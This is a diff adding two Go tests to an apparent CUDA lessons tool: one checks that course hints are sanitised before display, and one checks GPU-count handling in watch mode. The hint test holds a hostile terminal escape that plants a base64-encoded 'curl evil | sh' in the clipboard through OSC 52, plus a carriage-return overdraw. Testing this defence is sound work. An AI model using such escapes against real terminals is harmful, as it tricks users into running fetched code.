@@ -2,12 +2,15 @@ package study
 
 import (
 	"bytes"
+	"context"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/cudalessons/lessons/gpu"
 	"github.com/cudalessons/lessons/internal/course"
 	"github.com/cudalessons/lessons/internal/course/coursetest"
+	"github.com/cudalessons/lessons/internal/machine"
 	"github.com/cudalessons/lessons/internal/progress"
 )
 
@@ -79,5 +82,37 @@ func TestWriteList(t *testing.T) {
 		if !strings.Contains(got, want) {
 			t.Errorf("list:\n%s\nwant %q", got, want)
 		}
+	}
+}
+
+// A course's hint reaches the terminal made safe (lessons hint, watch's
+// h): a hostile course's OSC 52 (the clipboard) or a CR drawn over the
+// line before never does.
+func TestHintSafe(t *testing.T) {
+	c := tiny(t)
+	x, _ := c.Exercise("pipe")
+	x.Hints = []string{"Look\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07 at\rthe stream\x1b[2J."}
+	p, _ := progress.Load(c)
+	text, err := Hint(c, p, x)
+	if err != nil || strings.ContainsAny(text, "\x1b\r\a") || !strings.Contains(text, "  Look at\n  the stream.") {
+		t.Errorf("hint: %q, %v", text, err)
+	}
+}
+
+// watch on an exercise of two GPUs, on a machine with one, says so once
+// per check (as check does) and keeps watching: no error after it, which
+// watch printed as "lessons: exit status N" under every save.
+func TestWatchTwoGPUsOnOne(t *testing.T) {
+	t.Setenv("CUDA_VISIBLE_DEVICES", "")
+	c, err := course.Load(coursetest.Tiny(t, []string{"pair"}, map[string]string{"exercises/pair.toml": "gpus = 2\n[[check]]\nexit = 0\n"}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	k := Checker{Machine: &machine.Machine{Info: &gpu.Info{Devices: []gpu.Device{{Name: "one"}}}}}
+	s := Watch(c, Terminal{Out: &out, Width: 80}, k, true)
+	passed, err := s.Check(context.Background(), "pair")
+	if passed || err != nil || !strings.Contains(out.String(), "needs 2 GPUs") {
+		t.Errorf("passed %v, err %v, out %q", passed, err, out.String())
 	}
 }
